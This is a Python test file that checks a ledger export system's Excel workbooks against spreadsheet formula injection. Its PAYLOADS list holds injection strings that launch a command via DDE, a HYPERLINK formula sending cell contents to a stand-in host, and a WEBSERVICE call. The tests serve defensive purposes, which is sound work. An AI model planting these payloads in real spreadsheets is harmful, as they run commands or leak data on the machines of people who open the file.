"""Fourteen texts that a spreadsheet would run, in every workbook that goes out: texts they stay."""

import csv
import io
import zipfile
from datetime import date

import pytest
from tests.makers import make_organisation, make_person
from tests.makers_education import make_handout, make_training

from youju.base import periods
from youju.catalogue import LEDGERS, LINES
from youju.ledger.sheets import reading, workbooks
from youju.ledger.sheets.checking import check
from youju.ledger.sheets.exporting import export
from youju.ledger.sheets.outcomes import Outcome
from youju.ledger.sheets.tests import books
from youju.ledger.sheets.yearly import YearBook
from youju.org.access import Access

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"点这里")',
    '=WEBSERVICE("http://198.51.100.7/")',
    "=IMPORTXML(CONCAT(A1:B9),A1)",
    '=DDE("cmd","/C calc","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "http://198.51.100.7/x",
    "{=1+1}",
]
HANDOUTS = LEDGERS["education.handouts"]


def alive(data: bytes) -> list[str]:
    """Formulas and links in any part of a workbook."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    marks = (b"<f>", b"<f ", b"<hyperlink", b"externalLink", b"ddeLink", b'TargetMode="External"')
    return [f"{name} {mark.decode()}" for name, body in parts.items() for mark in marks if mark in body]


def texts(data: bytes) -> set[str]:
    sheets = reading.read(data, "出.xlsx").sheets
    return {cell for sheet in sheets for row in sheet.rows for cell in row}


@pytest.fixture
def handouts(village):
    return [make_handout(village, title=payload, occurred_on=date(2025, 3, 8)) for payload in PAYLOADS]


def test_in_the_export_of_a_ledger(clerk, handouts):
    access = Access(clerk)
    for reason in ("", "核对"):
        with export(HANDOUTS, access, HANDOUTS.records(access), reason=reason) as made:
            data = made.read()
        assert alive(data) == []
        assert {payload.strip() for payload in PAYLOADS} <= texts(data)


def test_in_the_export_of_a_year(clerk, township, handouts):
    made = b"".join(YearBook(LINES, Access(clerk), township, periods.parse("2025")).stream())
    package = zipfile.ZipFile(io.BytesIO(made))
    held = [package.read(name) for name in package.namelist() if name.endswith(".xlsx")]
    assert [alive(data) for data in held] == [[]] * len(held)
    assert {payload.strip() for payload in PAYLOADS} <= set.union(*map(texts, held))
    assert b"<script" not in package.read("目录.html")


def test_among_the_participants(clerk, township, village):
    ledger, access = LEDGERS["education.trainings"], Access(clerk)
    make_training(village, make_person(township, name="=1+1"), "@SUM(1)", "+86")
    with export(ledger, access, ledger.records(access), reason="核对") as made:
        data = made.read()
    assert alive(data) == []
    assert "=1+1\n@SUM(1)\n+86" in texts(data)


def test_in_the_rows_that_need_correcting(clerk, township):
    rows = [["不是日期", payload, "很多"] for payload in PAYLOADS]
    table = reading.read(books.xlsx(["发放日期", "资料名称", "份数"], *rows), "表.xlsx")
    data = workbooks.faulty(Outcome.of(check(HANDOUTS, Access(clerk), table, place=township)))
    assert alive(data) == []
    assert {payload.strip() for payload in PAYLOADS} <= texts(data)


def test_in_the_lists_of_a_template(clerk, township):
    for number, payload in enumerate(PAYLOADS):
        make_organisation(township, name=f"{payload.strip()[:30]}厂工会", code=f"X-{number}")
    data = workbooks.template(HANDOUTS, Access(clerk))
    assert alive(data) == []
    assert "=1+1厂工会" in texts(data) | listed(data)


def listed(data: bytes) -> set[str]:
    """What the hidden sheet of lists holds."""
    shared = zipfile.ZipFile(io.BytesIO(data)).read("xl/sharedStrings.xml").decode()
    return {part.partition("</t>")[0] for part in shared.split("<t>")[1:]}


def test_in_what_is_kept_of_pasted_rows(clerk):
    kept = reading.as_csv([[payload] for payload in PAYLOADS]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(kept, newline="")) for cell in row]
    assert len(cells) == len(PAYLOADS)
    assert [cell for cell in cells if cell.startswith(reading.LIVE)] == []


def test_the_export_is_laid_out_for_paper(clerk, handouts):
    access = Access(clerk)
    with export(HANDOUTS, access, HANDOUTS.records(access)) as made:
        package = zipfile.ZipFile(made)
        page, book = (package.read(f"xl/{name}.xml").decode() for name in ("worksheets/sheet1", "workbook"))
    assert 'orientation="landscape"' in page
    assert 'fitToHeight="0"' in page
    assert f'Bold"&amp;14{HANDOUTS.label}' in page
    assert "身份信息已遮盖　2025-12-31" in page
    assert "_xlnm.Print_Titles" in book
    assert 'topLeftCell="B2"' in page
